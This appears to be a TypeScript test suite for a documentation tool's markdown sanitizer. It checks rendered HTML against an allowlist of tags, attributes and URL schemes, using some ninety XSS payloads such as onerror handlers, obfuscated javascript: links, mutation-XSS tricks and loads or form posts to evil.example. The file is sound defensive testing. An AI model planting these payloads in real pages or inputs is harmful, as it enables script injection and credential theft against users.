import type { Nodes, Root } from 'hast';
import rehypeRaw from 'rehype-raw';
import { unified } from 'unified';
import { expect, test } from 'vitest';
import { renderInlineMarkdown, renderMarkdown } from '../../../plugins/shared/core/description';

const ELEMENTS = new Set(
  (
    'a abbr b blockquote br caption code dd del details div dl dt em hr i ins kbd li mark ol p pre q s samp small span ' +
    'strong sub summary sup table tbody td tfoot th thead tr u ul var'
  ).split(' '),
);
const ATTRIBUTES = new Set([
  'href',
  'title',
  'rel',
  'className',
  'align',
  'colSpan',
  'rowSpan',
  'scope',
  'start',
  'open',
  'role',
  'dataLabel',
]);

/** Parses as a browser would, by the HTML standard's algorithm. */
function parse(html: string): Root {
  return unified()
    .use(rehypeRaw)
    .runSync({ type: 'root', children: [{ type: 'raw', value: html }] });
}

function faultsOf(node: Nodes): string[] {
  if (node.type === 'comment' || node.type === 'doctype') return [node.type];
  if (node.type !== 'element' && node.type !== 'root') return [];
  const inner = node.children.flatMap(faultsOf);
  if (node.type === 'root') return inner;
  const faults = ELEMENTS.has(node.tagName) ? [] : [`<${node.tagName}>`];
  for (const [name, value] of Object.entries(node.properties)) {
    if (!ATTRIBUTES.has(name)) faults.push(`${node.tagName}[${name}]`);
    if (name === 'className' && !/^(?:|spec-heading|language-[\w+#.-]+)$/.test(String(value)))
      faults.push(String(value));
    const isRole = /^(table|rowgroup|row|columnheader|rowheader|cell)$/.test(String(value));
    if (name === 'role' && !isRole) faults.push(String(value));
    if (name === 'href') {
      const url = new URL(String(value), 'https://here.example/');
      if (!['http:', 'https:', 'mailto:'].includes(url.protocol)) faults.push(url.protocol);
      const isExternal = url.protocol !== 'mailto:' && url.host !== 'here.example';
      if (isExternal && String(node.properties['rel']) !== 'noopener,noreferrer') faults.push('rel');
    }
  }
  return [...faults, ...inner];
}

const ATTACKS = [
  '<script>alert(1)</script>',
  'text <script>alert(1)</script> text',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<script>alert(1)',
  '<script/x>alert(1)</script>',
  '<style>@import "https://evil.example"</style>',
  '<style><!--</style><script>alert(1)//--></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src="https://evil.example/pixel.png">',
  '![pixel](https://evil.example/pixel.png)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext></p><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="blob:https://here.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://evil.example" target="_blank" onclick="alert(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](javascript&#58;alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '[x](https://a.example "onmouseover=alert(1) x=\\"")',
  '[x](https://a.example/"onmouseover="alert(1))',
  '`<script>alert(1)</script>`',
  '```html" onload="alert(1)\n<script>alert(1)</script>\n```',
  '<div style="position:fixed;inset:0" id="root" class="modal" name="x">x</div>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">go</button></form>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<plaintext>',
  '<select><style></select><script>alert(1)</script></style></select>',
  '<table><td><script>alert(1)</script></td></table>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<p/onmouseover=alert(1)>x',
  '<b\u000conclick=alert(1)>x</b>',
  '<x-custom onclick=alert(1)>x</x-custom>',
  '<h1 id="__docusaurus">x</h1>',
  '# Heading <img src=x onerror=alert(1)>',
  '| a |\n|-|\n| <img src=x onerror=alert(1)> |',
  '- <iframe src=x>\n  <script>alert(1)</script>',
  'a[^1]\n\n[^1]: <script>alert(1)</script>',
  '<a href="https://a.example"><a href="javascript:alert(1)">x</a></a>',
  '<span data-x="1" aria-label="x" tabindex="1" contenteditable accesskey="x">x</span>',
];

test.each(ATTACKS)('%j is harmless', (attack) => {
  for (const render of [renderMarkdown, renderInlineMarkdown]) {
    for (const text of [
      attack,
      `Before ${attack} after.`,
      `> ${attack}`,
      `**${attack}**`,
      `<div>\n${attack}\n</div>`,
    ]) {
      expect(faultsOf(parse(render(text)))).toEqual([]);
    }
  }
});

test('the check itself finds what must not be there', () => {
  const bad = '<p id=x onclick=y><a href="java\tscript:1">x</a><a href=//e.example>x</a><svg></svg><!-- x --><img></p>';
  expect(faultsOf(parse(bad))).toEqual([
    'p[id]',
    'p[onClick]',
    'javascript:',
    'rel',
    'rel',
    '<svg>',
    'comment',
    '<img>',
  ]);
});

test.each([
  '<script>secret()</script>',
  'a <script>secret()</script> b',
  '<style>.secret{}</style>',
  '<svg><text>secret</text></svg>',
])('what %j holds is gone, too', (text) => {
  expect(renderMarkdown(text)).not.toContain('secret');
});
